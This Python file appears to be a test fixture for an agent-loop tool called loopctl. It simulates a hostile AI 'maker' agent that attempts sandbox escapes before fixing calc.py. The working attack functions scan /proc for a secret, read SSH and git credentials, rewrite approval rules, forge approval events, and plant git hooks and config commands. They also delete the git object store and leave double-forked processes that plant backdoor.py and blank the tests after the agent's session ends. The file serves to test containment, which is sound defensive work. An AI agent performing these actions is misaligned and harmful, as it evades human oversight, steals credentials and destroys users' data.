"""A maker that tries to break out, then fixes calc.py so its attempt can pass.

argv: ATTACK [ATTACK ...]. Each attack prints one line `HOSTILE <attack> <what happened>` to
stdout (captured in maker.out) and never stops the others. The test decides from the outcome on
disk, in git and in /proc whether the promise held; these lines only help read a failure.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
from pathlib import Path

SECRET_NAME = "LOOPCTL_TEST_SECRET_TOKEN"
MARKER = "loopctl-hostile-survivor"


def marker() -> str:
    """What a left-behind process carries in its command line: this project's own tag, so that
    tests running side by side each find only their own."""
    return f"{MARKER}:{main_checkout()}"


def say(attack: str, text: str) -> None:
    print(f"HOSTILE {attack} {text}", flush=True)


def main_checkout() -> Path:
    common = subprocess.run(
        ["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
        capture_output=True,
        text=True,
        check=False,
    ).stdout.strip()
    return Path(common).parent


def try_write(attack: str, path: Path, text: str, mode: str = "a") -> None:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode, encoding="utf-8") as handle:
            handle.write(text)
        say(attack, f"WROTE {path}")
    except OSError as exc:
        say(attack, f"refused {path}: {exc.strerror}")


def read_environs(attack: str) -> None:
    """Every ancestor's environ, then every process's: the withheld secret must be in none."""
    found = []
    pid = os.getppid()
    seen: set[int] = set()
    while pid > 0 and pid not in seen:
        seen.add(pid)
        with contextlib.suppress(OSError):
            data = Path(f"/proc/{pid}/environ").read_bytes()
            if SECRET_NAME.encode() in data:
                found.append(pid)
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if SECRET_NAME.encode() in (entry / "environ").read_bytes():
                    found.append(int(entry.name))
    visible = sum(1 for entry in Path("/proc").iterdir() if entry.name.isdigit())
    if SECRET_NAME in os.environ:
        found.append(os.getpid())
    say(attack, f"{'FOUND' if found else 'none'} secret in {sorted(set(found))}; {visible} pids")


def rewrite_rules(attack: str) -> None:
    root = main_checkout()
    try_write(attack, root / ".loop" / "config.toml", '\n[env]\nallow = ["*"]\n')
    for loop in sorted((root / ".loop" / "loops").glob("*.toml")):
        try_write(attack, loop, "\n[deliver]\napprove = []\n")
    try_write(attack, root / "agents" / "maker.toml", "\n# hostile\n")


def approve_everything(attack: str) -> None:
    """Approve every open item with loopctl itself, then forge an `approved` event."""
    root = main_checkout()
    listed = subprocess.run(
        [sys.executable, "-m", "loopctl", "inbox", "--json"],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    )
    ids: list[str] = []
    with contextlib.suppress(ValueError):
        payload = json.loads(listed.stdout)
        items = payload.get("inbox", []) if isinstance(payload, dict) else []
        ids = [str(item.get("id")) for item in items if isinstance(item, dict)]
    for item in ids:
        for verb in ("approve", "retry"):
            done = subprocess.run(
                [sys.executable, "-m", "loopctl", "inbox", verb, item],
                cwd=root,
                capture_output=True,
                text=True,
                check=False,
                env={k: v for k, v in os.environ.items() if not k.startswith("LOOPCTL_")},
            )
            say(attack, f"{verb} {item} exit {done.returncode}")
    for log in sorted((root / ".loop" / "log").glob("*")):
        forged = {"type": "approved", "data": {"item": ids[0] if ids else "x"}}
        try_write(attack, log, json.dumps(forged) + "\n")


def plant_git(attack: str) -> None:
    git_dir = main_checkout() / ".git"
    try_write(attack, git_dir / "config", '\n[remote "origin"]\n\treceivepack = touch /tmp/pwn\n')
    try_write(attack, git_dir / "info" / "exclude", "tests/conftest.py\n")
    try_write(attack, git_dir / "hooks" / "pre-push", "#!/bin/sh\ntouch /tmp/pwn\n", "w")
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=False
    ).stdout.strip()
    try_write(attack, git_dir / "refs" / "replace" / head, head + "\n", "w")
    for argv in (
        ["git", "push", "origin", "HEAD:refs/heads/main"],
        ["git", "push", "origin", "HEAD:refs/tags/v666"],
        ["git", "update-ref", "refs/heads/main", "HEAD"],
        ["git", "tag", "hostile-tag"],
    ):
        done = subprocess.run(argv, capture_output=True, text=True, check=False)
        say(attack, f"{' '.join(argv)} exit {done.returncode}")


def wipe_objects(attack: str) -> None:
    """Delete the repository's object store: every commit the user ever made."""
    objects = main_checkout() / ".git" / "objects"
    removed = 0
    for path in sorted(objects.rglob("*"), reverse=True):
        try:
            path.unlink() if path.is_file() else path.rmdir()
            removed += 1
        except OSError:
            pass
    say(attack, f"removed {removed} entries of {objects} (as the agent saw them)")


def read_credentials(attack: str) -> None:
    home = Path(os.environ.get("HOME", "/"))
    for name in (".ssh/id_ed25519", ".git-credentials", ".config/gh/hosts.yml"):
        try:
            text = (home / name).read_text()
            say(attack, f"READ {name}: {text.strip()[:40]}")
        except OSError as exc:
            say(attack, f"refused {name}: {exc.strerror}")


WRITER = """
import os, time
from pathlib import Path
if os.fork():
    os._exit(0)  # double fork: the writer's parent is gone, its session is its own
agent = Path("/proc/" + os.environ["HOSTILE_AGENT_PID"])
while agent.exists():  # strike only after the agent's turn...
    time.sleep(0.01)
time.sleep(1.0)  # ...once loopctl has moved on to the check and the commit
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    try:
        Path("backdoor.py").write_text("import os\\n")
        Path("tests/test_calc.py").write_text("def test_add():\\n    pass\\n")
    except OSError:
        pass
    time.sleep(0.01)  # the attacker's pace  # {marker}
"""


def leave_writer(attack: str) -> None:
    """A setsid double-fork that keeps planting a backdoor long after this agent is gone."""
    subprocess.Popen(
        [sys.executable, "-c", WRITER.replace("{marker}", marker())],
        env={**os.environ, "HOSTILE_AGENT_PID": str(os.getpid())},
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ).wait()
    say(attack, "writer left behind")


def fork_many(attack: str) -> None:
    """Many detached sleepers: each must end with the attempt."""
    for _ in range(50):
        subprocess.Popen(
            [sys.executable, "-c", f"import time; time.sleep(300)  # {marker()}"],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    say(attack, "50 sleepers left behind")


ATTACKS = {
    "environ": read_environs,
    "rules": rewrite_rules,
    "approve": approve_everything,
    "git": plant_git,
    "credentials": read_credentials,
    "objects": wipe_objects,
    "writer": leave_writer,
    "forks": fork_many,
}


def main() -> int:
    for name in sys.argv[1:]:
        try:
            ATTACKS[name](name)
        except Exception as exc:  # one failed attack must not hide the others
            say(name, f"crashed: {exc!r}")
    Path("calc.py").write_text("def add(a, b):\n    return a + b\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
